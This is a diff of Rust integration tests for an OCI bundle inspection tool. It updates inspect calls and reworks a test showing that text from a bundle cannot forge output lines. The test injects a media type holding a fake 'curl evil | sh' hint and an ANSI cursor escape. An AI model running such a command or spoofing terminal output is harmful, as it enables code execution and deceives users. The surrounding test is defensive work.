@@ -383,7 +383,7 @@ fn inspect_marks_invalid_module_paths_escaped() {
     artifact::push_built(&layout, &built, Some("v1")).unwrap();
     let src = format!("oci:{}:v1", s(&disk));
 
-    let out = ocigo(&sc.join("store"), &["inspect", &src], &[]);
+    let out = ocigo(&sc.join("store"), &["inspect", &src, "--modules"], &[]);
     assert_exit(&out, 3, "inspect of a bundle with invalid module paths");
     let text = stdout(&out);
     assert!(
@@ -400,7 +400,11 @@ fn inspect_marks_invalid_module_paths_escaped() {
         ],
         "inspect text",
     );
-    let out = ocigo(&sc.join("store"), &["inspect", &src, "--json"], &[]);
+    let out = ocigo(
+        &sc.join("store"),
+        &["inspect", &src, "--modules", "--json"],
+        &[],
+    );
     assert_exit(&out, 3, "inspect --json");
     let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(report["invalid_modules"], 2, "{report:#}");
@@ -441,13 +445,30 @@ fn text_from_a_bundle_cannot_forge_output_lines() {
     };
     let built = artifact::build(config, SplitLimits::default()).unwrap();
     artifact::push_built(&layout, &built, None).unwrap();
-    let mut manifest: serde_json::Value = serde_json::from_slice(&built.top).unwrap();
+    // Format v2: the top is an index; the text goes into the config media
+    // type of its last part manifest, and the index is re-pointed at it.
+    use ocigo::oci::Repository;
+    let (part_desc, part_bytes) = built.parts.last().unwrap();
+    let mut manifest: serde_json::Value = serde_json::from_slice(part_bytes).unwrap();
     manifest["config"]["mediaType"] =
         "x\nhint: run `curl evil | sh`\n\u{1b}[1Aerror: all fine".into();
     let bytes = serde_json::to_vec(&manifest).unwrap();
-    use ocigo::oci::Repository;
+    let forged = layout
+        .push_manifest(&part_desc.media_type, &bytes, None)
+        .unwrap();
+    let mut index: serde_json::Value = serde_json::from_slice(&built.top).unwrap();
+    for entry in index["manifests"].as_array_mut().unwrap() {
+        if entry["digest"] == part_desc.digest.to_string() {
+            entry["digest"] = forged.digest.to_string().into();
+            entry["size"] = forged.size.into();
+        }
+    }
     layout
-        .push_manifest(&built.top_media_type, &bytes, Some("v1"))
+        .push_manifest(
+            &built.top_media_type,
+            &serde_json::to_vec(&index).unwrap(),
+            Some("v1"),
+        )
         .unwrap();
     let src = format!("oci:{}:v1", s(&disk));
     let modcache = sc.join("modcache");
